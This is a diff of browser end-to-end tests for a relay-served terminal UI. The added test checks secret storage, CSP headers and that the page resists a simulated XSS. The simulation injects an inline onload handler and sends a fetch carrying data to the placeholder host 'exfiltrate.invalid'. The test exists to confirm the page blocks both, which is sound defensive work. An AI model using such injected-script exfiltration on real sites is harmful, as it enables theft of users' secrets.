@@ -51,8 +51,10 @@ test('the pairing link opens the UI through the relay and the secret leaves the 
   assert.equal(url.origin, relay.origin, 'the page comes from the relay');
   assert.equal(url.hash, '', 'the secret is not left in the URL');
   assert.match(url.pathname, /\/h\/[a-z2-7]{26}\/$/);
-  assert.equal(await page.locator('[data-testid=token-button]').textContent(), 'Forget pairing');
   await page.locator('.meta', { hasText: 'through relay' }).waitFor({ timeout: 10_000 });
+  await page.click('[data-testid=more-button]');
+  assert.equal(await page.locator('[data-testid=token-button]').textContent(), 'Forget pairing');
+  await page.keyboard.press('Escape');
   const { activeTabId: tabId } = await snapshot(page);
   await waitForPrompt(page, tabId);
   await typeInTerminal(page, 'echo through-the-$((6*7))-relay\n');
@@ -99,4 +101,40 @@ test('the daemon restarted (kill -9): the page comes back through the relay with
   await typeInTerminal(page, 'echo after-daemon-restart\n');
   await waitForScreen(page, tabId, (t) => t.split('\n').some((l) => l.trim() === 'after-daemon-restart'), 'typing after the restart');
   await screenshot(page, '61-relay-after-daemon-restart');
+});
+
+test('the relay-served page keeps the secret for the tab only, under a strict CSP', async () => {
+  const secret = link.split('#')[1];
+  const stored = await page.evaluate(() => ({
+    lasting: Object.keys(localStorage).map((k) => `${k}=${localStorage.getItem(k)}`).join('\n'),
+    tab: Object.keys(sessionStorage).map((k) => `${k}=${sessionStorage.getItem(k)}`).join('\n'),
+  }));
+  assert.ok(!stored.lasting.includes(secret), 'the secret is never in the relay origin\'s localStorage');
+  assert.ok(stored.tab.includes(secret), 'this tab keeps it, so a reload reconnects');
+
+  const response = await page.request.get(page.url());
+  const csp = response.headers()['content-security-policy'] ?? '';
+  for (const directive of ["default-src 'self'", "script-src 'self'", "connect-src 'self'", "frame-ancestors 'none'"]) {
+    assert.ok(csp.includes(directive), `${directive} in ${csp}`);
+  }
+  assert.equal(response.headers()['x-frame-options'], 'DENY');
+  // What a script slipped into the page (an XSS, not the relay itself) would try: run inline code, send the secret away.
+  const attempts = await page.evaluate(async () => {
+    const violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
+    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onload="window.__inlineRan = 1">');
+    const sent = await fetch('http://exfiltrate.invalid/?s=1').then(() => 'sent', () => 'blocked');
+    await new Promise((r) => setTimeout(r, 300));
+    return { inlineRan: window.__inlineRan === 1, sent, violations };
+  });
+  assert.equal(attempts.inlineRan, false, 'an inline handler does not run');
+  assert.equal(attempts.sent, 'blocked');
+  assert.ok(attempts.violations.some((v) => v.startsWith('script-src')), attempts.violations.join(','));
+  assert.ok(attempts.violations.some((v) => v.startsWith('connect-src')), attempts.violations.join(','));
+
+  // Another tab of the same browser (same origin, same lasting storage) opening the plain address: no secret.
+  const other = await page.context().newPage();
+  await other.goto(page.url());
+  await other.locator('[data-testid=no-token]').waitFor({ timeout: 10_000 });
+  await other.close();
 });
